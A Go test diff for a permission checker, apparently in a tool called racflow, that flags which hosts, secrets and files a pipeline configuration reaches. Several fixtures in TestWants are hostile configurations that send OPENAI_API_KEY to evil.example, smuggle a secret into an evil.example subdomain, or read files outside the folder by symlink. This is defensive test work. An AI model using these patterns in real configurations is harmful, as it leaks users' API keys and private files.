@@ -3,6 +3,7 @@ package trust
 import (
 	"cmp"
 	"context"
+	"crypto/sha256"
 	"fmt"
 	"maps"
 	"os"
@@ -34,12 +35,24 @@ func TestGrants(t *testing.T) {
 	}
 	left(r, never, host, key, start)
 	left(r, func(content []byte) bool { return string(content) == "file" }, start)
+	data, linked := Want{Kind: Files, Text: "reads /outside/rows"}, Want{Kind: Files, Text: "reads /outside/diary", link: true}
+	reads := Request{Folder: "/a", Content: []byte("file"), Wants: []Want{data, linked, host}}
+	left(reads, never, data, linked, host)
+	left(reads, func(content []byte) bool { return string(content) == "file" }, data, linked)
 	for _, err := range []error{g.Grant("/a", []Want{host}), g.Grant("/a", []Want{start, host})} {
 		if err != nil {
 			t.Fatal(err)
 		}
 	}
 	left(r, never, key)
+	of := func(value string) Request {
+		return Request{Folder: "/c", Wants: []Want{{Kind: Hosts, Text: "sends to the host of K", Value: value}}}
+	}
+	if err := g.Grant("/c", of("1").Wants); err != nil {
+		t.Fatal(err)
+	}
+	left(of("1"), never)
+	left(of("2"), never, of("2").Wants...)
 	other := r
 	other.Folder = "/b"
 	left(other, never, host, key, start)
@@ -49,6 +62,8 @@ func TestGrants(t *testing.T) {
 	}
 	written := Request{Folder: filepath.Dir(path), Content: []byte("written"), Wants: r.Wants}
 	left(written, never, start)
+	reads.Folder, reads.Content = written.Folder, written.Content
+	left(reads, never, linked)
 	written.Content = []byte("written, and changed")
 	left(written, never, host, key, start)
 
@@ -158,13 +173,24 @@ pipeline "p" {
 	}
 }
 
-func TestIsSaid(t *testing.T) {
-	for said, want := range map[string]bool{
-		"https://api.example.com/v1": true, "api.example.com": true, "a=http://api.example.com,b": true, `{ url = "https://api.example.com" }`: true,
-		"https://api.example.com.au": false, "https://my-api.example.com": false, "https://api.example.com:8443": false, "https://x@api.example.com": false, "": false,
+func TestIsTyped(t *testing.T) {
+	https, port := host{scheme: "https", host: "api.example.com"}, host{scheme: "https", host: "api.example.com:8443"}
+	http, bare := host{scheme: "http", host: "api.example.com"}, host{scheme: "http", host: "gpu:8080"}
+	for _, c := range []struct {
+		text string
+		h    host
+		want bool
+	}{
+		{"https://api.example.com/v1", https, true}, {"https://api.example.com:443/v1", https, true}, {"api.example.com", https, true},
+		{"a=https://api.example.com,b", https, true}, {`{ url = "https://api.example.com" }`, https, true}, {"HTTPS://API.example.com", https, true},
+		{"https://api.example.com.au", https, false}, {"https://my-api.example.com", https, false}, {"https://api.example.com:8443", https, false},
+		{"https://x@api.example.com", https, false}, {"https://api.example.com@evil", https, false}, {"http://api.example.com", https, false}, {"", https, false},
+		{"https://api.example.com:8443", port, true}, {"api.example.com:8443", port, true}, {"https://api.example.com", port, false},
+		{"http://api.example.com", http, true}, {"http://api.example.com:80/v1", http, true}, {"api.example.com", http, false}, {"https://api.example.com", http, false},
+		{"gpu:8080", bare, true}, {"https://gpu:8080", bare, false},
 	} {
-		if got := (&wants{said: []string{said}}).isSaid("api.example.com"); got != want {
-			t.Errorf("whoever says %q names it: %v", said, got)
+		if got := isTyped(c.text, c.h); got != c.want {
+			t.Errorf("%q names %s: %v", c.text, c.h, got)
 		}
 	}
 }
@@ -176,6 +202,9 @@ type service struct {
 	Key  string            `config:"key,secret"`
 	Keys map[string]string `config:"keys,secret"`
 	File sdk.Path          `config:"file"`
+
+	Headers map[string]string `config:"headers,secret"`
+	Body    string            `config:"body"`
 }
 
 // stages are a whole pipeline of built-in stages.
@@ -211,12 +240,35 @@ func TestWants(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
+	if err := os.Mkdir(outside+"/sub", 0o700); err != nil {
+		t.Fatal(err)
+	}
 	if err := os.Symlink(outside+"/diary", dir+"/link.tsv"); err != nil {
 		t.Fatal(err)
 	}
 	environment := map[string]string{
-		"OPENAI_API_KEY": "key-of-openai", "OTHER_KEY": "another-key", "CITY": "somewhere", "RACFLOW_X": "x", "SERVER": "http://said.example:8080/v1", "RACFLOW_KEY": "own-key",
+		"OPENAI_API_KEY": "key-of-openai", "OTHER_KEY": "another-key", "CITY": "somewhere", "RACFLOW_X": "x", "SERVER": "http://said.example:8080/v1", "RACFLOW_KEY": "own-key", "RACFLOW_OTHER": "own",
+		"OPENAI_BASE_URL": "http://said.example:8080/v1", "ANTHROPIC_BASE_URL": "https://said.example/v1?key=hush", "RACFLOW_SERVE_TOKENS": "0123456789abcdef",
 	}
+	environment["OUTSIDE"], environment["RACFLOW_OUTSIDE"] = outside, outside
+	const (
+		ownKey = `key = secret("OPENAI_API_KEY")`
+		said   = "url = env(\"OPENAI_BASE_URL\")\n"
+		clear  = " without encryption"
+	)
+	sends := func(host string, free bool) Want { return Want{Kind: Hosts, Text: "sends to " + host, Free: free} }
+	gives := func(host, name string, free bool) Want {
+		return Want{Kind: Secrets, Text: "gives " + host + " the secret " + name, Free: free}
+	}
+	reads := func(name string) Want {
+		return Want{Kind: Secrets, Text: "reads the variable " + name + " of the environment"}
+	}
+	of := func(value string, w Want) Want {
+		w.Value = fmt.Sprintf("%x", sha256.Sum256([]byte(value)))
+		return w
+	}
+	own := []Want{sends("api.openai.com", true), gives("api.openai.com", "OPENAI_API_KEY", true)}
+	asked := []Want{sends("api.openai.com", false), gives("api.openai.com", "OPENAI_API_KEY", true)}
 	for name, c := range map[string]struct {
 		config string // of the voter
 		more   string // blocks in the pipeline
@@ -225,27 +277,66 @@ func TestWants(t *testing.T) {
 		vars   map[string]string
 		want   []Want
 	}{
-		"nothing":              {more: `enabled = false`},
-		"OpenAI's key":         {config: `key = secret("OPENAI_API_KEY")`, want: []Want{{Hosts, "sends to api.openai.com", true}, {Secrets, "gives api.openai.com the secret OPENAI_API_KEY", true}}},
-		"no key":               {config: `key = secret("NO_KEY", "")`, want: []Want{{Hosts, "sends to api.openai.com", false}}},
-		"a key of the file":    {config: `key = "sk-of-the-author"`, want: []Want{{Hosts, "sends to api.openai.com", false}}},
-		"another key":          {config: `key = secret("OTHER_KEY")`, want: []Want{{Hosts, "sends to api.openai.com", false}, {Secrets, "gives api.openai.com the secret OTHER_KEY", false}}},
-		"OpenAI's key, astray": {config: "url = \"https://evil.example\"\nkey = secret(\"OPENAI_API_KEY\")", want: []Want{{Hosts, "sends to evil.example", false}, {Secrets, "gives evil.example the secret OPENAI_API_KEY", false}}},
-		"a host that was said": {config: "url = env(\"SERVER\")\nkey = secret(\"OPENAI_API_KEY\")", want: []Want{{Hosts, "sends to said.example:8080", true}, {Secrets, "gives said.example:8080 the secret OPENAI_API_KEY", true}}},
-		"its other secret":     {config: "url = env(\"SERVER\")\nkey = secret(\"OTHER_KEY\")", want: []Want{{Hosts, "sends to said.example:8080", true}, {Secrets, "gives said.example:8080 the secret OTHER_KEY", false}}},
-		"racflow's own":        {config: "url = env(\"SERVER\")\nkey = secret(\"RACFLOW_KEY\")", want: []Want{{Hosts, "sends to said.example:8080", true}, {Secrets, "gives said.example:8080 the secret RACFLOW_KEY", true}}},
+		"nothing":                 {more: `enabled = false`},
+		"OpenAI's key":            {config: `key = secret("OPENAI_API_KEY")`, want: []Want{{Kind: Hosts, Text: "sends to api.openai.com", Free: true}, {Kind: Secrets, Text: "gives api.openai.com the secret OPENAI_API_KEY", Free: true}}},
+		"no key":                  {config: `key = secret("NO_KEY", "")`, want: []Want{{Kind: Hosts, Text: "sends to api.openai.com"}}},
+		"a key of the file":       {config: `key = "sk-of-the-author"`, want: []Want{{Kind: Hosts, Text: "sends to api.openai.com"}}},
+		"another key":             {config: `key = secret("OTHER_KEY")`, want: []Want{{Kind: Hosts, Text: "sends to api.openai.com"}, {Kind: Secrets, Text: "gives api.openai.com the secret OTHER_KEY"}}},
+		"OpenAI's key, astray":    {config: "url = \"https://evil.example\"\nkey = secret(\"OPENAI_API_KEY\")", want: []Want{{Kind: Hosts, Text: "sends to evil.example"}, {Kind: Secrets, Text: "gives evil.example the secret OPENAI_API_KEY"}}},
+		"a host that was said":    {config: said + ownKey, want: []Want{sends("http://said.example:8080"+clear, true), gives("http://said.example:8080", "OPENAI_API_KEY", true)}},
+		"its other secret":        {config: said + `key = secret("OTHER_KEY")`, want: []Want{sends("http://said.example:8080"+clear, true), gives("http://said.example:8080", "OTHER_KEY", false)}},
+		"racflow's own":           {config: said + `key = secret("RACFLOW_OTHER")`, want: []Want{sends("http://said.example:8080"+clear, true), gives("http://said.example:8080", "RACFLOW_OTHER", true)}},
+		"racflow's own key":       {config: said + `key = secret("RACFLOW_KEY")`, want: []Want{sends("http://said.example:8080"+clear, true), gives("http://said.example:8080", "RACFLOW_KEY", false)}},
+		"tokens of serve":         {config: ownKey + "\nbody = env(\"RACFLOW_SERVE_TOKENS\")", want: slices.Concat(asked, []Want{reads("RACFLOW_SERVE_TOKENS")})},
+		"a part of what was said": {config: `url = replace(env("OPENAI_BASE_URL"), ":8080", "")` + "\n" + ownKey, want: []Want{sends("http://said.example"+clear, false), gives("http://said.example", "OPENAI_API_KEY", false)}},
+		"more than what was said": {config: `url = "${env("OPENAI_BASE_URL")}/more"` + "\n" + ownKey, want: []Want{sends("http://said.example:8080"+clear, false), gives("http://said.example:8080", "OPENAI_API_KEY", false)}},
+		"an address with a key": {config: `url = env("ANTHROPIC_BASE_URL")`, want: []Want{
+			reads("ANTHROPIC_BASE_URL"), of("said.example", sends(`the host that the variable ANTHROPIC_BASE_URL of the environment gives (url = env("ANTHROPIC_BASE_URL"))`, false)),
+		}},
+		"a host of the environment": {config: `url = env("SERVER")` + "\n" + ownKey, want: []Want{
+			reads("SERVER"), of("http://said.example:8080", sends(`the host that the variable SERVER of the environment gives (url = env("SERVER"))`, false)),
+			of("http://said.example:8080", gives(`the host that the variable SERVER of the environment gives (url = env("SERVER"))`, "OPENAI_API_KEY", false)),
+		}},
+		"a host of a secret": {config: `url = "https://${secret("OTHER_KEY")}.evil.example"`, want: []Want{
+			of("another-key.evil.example", sends(`the host that the secret OTHER_KEY gives (url = "https://${secret("OTHER_KEY")}.evil.example")`, false)),
+			of("another-key.evil.example", gives(`the host that the secret OTHER_KEY gives (url = "https://${secret("OTHER_KEY")}.evil.example")`, "OTHER_KEY", false)),
+		}},
+		"OpenAI's key, in clear":             {config: `url = "http://api.openai.com/v1"` + "\n" + ownKey, want: []Want{sends("http://api.openai.com"+clear, false), gives("http://api.openai.com", "OPENAI_API_KEY", false)}},
+		"OpenAI's key, another port":         {config: `url = "https://api.openai.com:8443/v1"` + "\n" + ownKey, want: []Want{sends("api.openai.com:8443", false), gives("api.openai.com:8443", "OPENAI_API_KEY", false)}},
+		"OpenAI's host, written otherwise":   {config: `url = "https://API.OpenAI.com:443/v1"` + "\n" + ownKey, want: own},
+		"another account by a header":        {config: ownKey + "\nheaders = { Authorization = \"Bearer of another account\" }", want: asked},
+		"a header from a secret":             {config: ownKey + "\nheaders = { X = secret(\"OTHER_KEY\") }", want: slices.Concat(asked, []Want{gives("api.openai.com", "OTHER_KEY", false)})},
+		"another account by the body":        {config: ownKey + "\nbody = \"{}\"", want: asked},
+		"an empty header":                    {config: ownKey + "\nheaders = {}\nbody = \"\"", want: own},
+		"a header that was said":             {config: ownKey + "\nheaders = { X = var.rows }", vars: map[string]string{"rows": "my-account"}, want: own},
+		"another account by a key":           {config: `key = secret("OPENAI_API_KEY") == "x" ? "" : "sk-of-the-author"`, want: asked},
+		"another account of another service": {config: ownKey + "\nmore = { b = \"https://api.openai.com/v1\" }\nkeys = { b = \"sk-of-the-author\" }", want: asked},
+		"a host that was typed":              {config: "url = var.rows\n" + ownKey, vars: map[string]string{"rows": "https://typed.example/v1"}, want: []Want{sends("typed.example", true), gives("typed.example", "OPENAI_API_KEY", true)}},
+		"typed, but for another argument":    {config: "url = \"https://typed.example/v1\"\n" + ownKey, vars: map[string]string{"rows": "https://typed.example/v1"}, want: []Want{sends("typed.example", false), gives("typed.example", "OPENAI_API_KEY", false)}},
+		"typed, in clear":                    {config: "url = replace(var.rows, \"https:\", \"http:\")\n" + ownKey, vars: map[string]string{"rows": "https://typed.example/v1"}, want: []Want{sends("http://typed.example"+clear, false), gives("http://typed.example", "OPENAI_API_KEY", false)}},
+		"typed, and an account":              {config: "url = var.rows\nkey = \"sk-of-the-author\"", vars: map[string]string{"rows": "https://typed.example/v1"}, want: []Want{sends("typed.example", false)}},
+		"typed, and any key, here":           {config: "url = var.rows\nkey = \"none\"", vars: map[string]string{"rows": "http://127.0.0.1:9/v1"}, want: []Want{sends("127.0.0.1:9", true)}},
+		"typed, and a header, here":          {config: "url = var.rows\nheaders = { X = \"1\" }", vars: map[string]string{"rows": "http://127.0.0.1:9/v1"}, want: []Want{sends("127.0.0.1:9", false)}},
 		"each its own": {config: "more = { b = \"https://b.example\" }\nkeys = { b = secret(\"OTHER_KEY\") }\nkey = secret(\"OPENAI_API_KEY\")", want: []Want{
-			{Hosts, "sends to api.openai.com", true}, {Hosts, "sends to b.example", false}, {Secrets, "gives api.openai.com the secret OPENAI_API_KEY", true}, {Secrets, "gives b.example the secret OTHER_KEY", false},
+			{Kind: Hosts, Text: "sends to api.openai.com", Free: true}, {Kind: Hosts, Text: "sends to b.example"}, {Kind: Secrets, Text: "gives api.openai.com the secret OPENAI_API_KEY", Free: true}, {Kind: Secrets, Text: "gives b.example the secret OTHER_KEY"},
 		}},
-		"a variable, two reads": {config: "key = secret(\"OPENAI_API_KEY\")\nfile = file(env(\"RACFLOW_Y\", \"" + outside + "/diary\")) == env(\"CITY\") ? \"x\" : \"" + outside + "/rows.tsv\"", want: []Want{
-			{Hosts, "sends to api.openai.com", true}, {Secrets, "reads the variable CITY of the environment", false}, {Secrets, "gives api.openai.com the secret OPENAI_API_KEY", true},
-			{Files, "reads " + outside + "/diary", false}, {Files, "reads " + outside + "/rows.tsv", false},
+		"a variable, two reads": {config: "key = secret(\"OPENAI_API_KEY\")\nfile = file(env(\"RACFLOW_Y\", \"" + outside + "/diary\")) == env(\"CITY\") ? \"x\" : \"/rows.tsv\"", want: []Want{
+			own[0], reads("CITY"), own[1], {Kind: Files, Text: "reads " + outside + "/diary"},
+			of("/rows.tsv", Want{Kind: Files, Text: "reads the file that " + outside + "/diary and the variable CITY of the environment gives (file(env(\"RACFLOW_Y\", \"" + outside + "/diary\")) == env(\"CITY\") ? \"x\" : \"/rows.tsv\")"}),
 		}},
-		"rows outside":           {more: `enabled = false`, source: outside + "/rows.tsv", want: []Want{{Files, "reads " + outside + "/rows.tsv", false}}},
-		"rows by a link":         {more: `enabled = false`, source: "*.tsv", want: []Want{{Files, "reads " + outside + "/diary", false}}},
-		"rows that were said":    {more: `enabled = false`, source: outside + "/rows.tsv", vars: map[string]string{"rows": outside + "/rows.tsv"}, want: []Want{{Files, "reads " + outside + "/rows.tsv", true}}},
-		"a store outside":        {more: `enabled = false`, store: `config { path = "` + outside + `/kept" }`, want: []Want{{Files, "changes " + outside + "/kept", false}}},
-		"services without names": {more: `use = "mute"`, config: `key = secret("OTHER_KEY")`, want: []Want{{Hosts, "calls services that the stage mute does not name", false}, {Secrets, "gives the stage mute the secret OTHER_KEY", false}}},
+		"rows outside":                       {more: `enabled = false`, source: outside + "/rows.tsv", want: []Want{{Kind: Files, Text: "reads " + outside + "/rows.tsv"}}},
+		"rows by a link":                     {more: `enabled = false`, source: "*.tsv", want: []Want{{Kind: Files, Text: "reads " + outside + "/diary", link: true}}},
+		"rows that were said":                {more: `enabled = false`, source: "${var.rows}", vars: map[string]string{"rows": outside + "/rows.tsv"}, want: []Want{{Kind: Files, Text: "reads " + outside + "/rows.tsv", Free: true}}},
+		"in a folder that was said":          {more: `enabled = false`, source: "${var.rows}/rows.tsv", vars: map[string]string{"rows": outside}, want: []Want{{Kind: Files, Text: "reads " + outside + "/rows.tsv", Free: true}}},
+		"beside a folder that was said":      {more: `enabled = false`, source: "${var.rows}/../rows.tsv", vars: map[string]string{"rows": outside + "/sub"}, want: []Want{{Kind: Files, Text: "reads " + outside + "/rows.tsv"}}},
+		"a slash that was said":              {more: `enabled = false`, source: "${var.rows}" + strings.TrimPrefix(outside, "/") + "/rows.tsv", vars: map[string]string{"rows": "/"}, want: []Want{{Kind: Files, Text: "reads " + outside + "/rows.tsv"}}},
+		"a folder of racflow's own variable": {more: `enabled = false`, source: "${env(\"RACFLOW_OUTSIDE\")}/rows.tsv", want: []Want{{Kind: Files, Text: "reads " + outside + "/rows.tsv"}}},
+		"said, but not for this":             {more: `enabled = false`, source: outside + "/rows.tsv", vars: map[string]string{"rows": outside + "/rows.tsv"}, want: []Want{{Kind: Files, Text: "reads " + outside + "/rows.tsv"}}},
+		"rows that the environment says": {more: `enabled = false`, source: "${env(\"OUTSIDE\")}/rows.tsv", want: []Want{
+			reads("OUTSIDE"), of(outside+"/rows.tsv", Want{Kind: Files, Text: `reads the file that the variable OUTSIDE of the environment gives ("${env("OUTSIDE")}/rows.tsv")`}),
+		}},
+		"a store outside":        {more: `enabled = false`, store: `config { path = "` + outside + `/kept" }`, want: []Want{{Kind: Files, Text: "changes " + outside + "/kept"}}},
+		"services without names": {more: `use = "mute"`, config: `key = secret("OTHER_KEY")`, want: []Want{{Kind: Hosts, Text: "calls services that the stage mute does not name"}, {Kind: Secrets, Text: "gives the stage mute the secret OTHER_KEY"}}},
 	} {
 		t.Run(name, func(t *testing.T) {
 			use := `use = "asks"`
@@ -255,7 +346,7 @@ func TestWants(t *testing.T) {
 			text := fmt.Sprintf(`
 variable "rows" { default = "x" }
 knowledge "k" {
-  source { path = %q }
+  source { path = "%s" }
   embed { use = "words" }
   store {
     use = "kept"
